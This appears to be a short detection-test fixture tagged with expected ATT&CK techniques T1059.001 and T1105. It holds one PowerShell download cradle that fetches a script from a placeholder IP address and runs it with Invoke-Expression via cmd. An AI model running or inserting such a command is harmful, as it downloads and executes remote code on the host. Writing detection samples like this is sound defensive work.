# expect: T1059.001 T1105
$cmd = 'pwsh -NoProfile -Command "$d = (New-Object System.Net.WebClient).DownloadString(''http://198.51.100.7/p''); Invoke-Expression $d"'
cmd /c $cmd
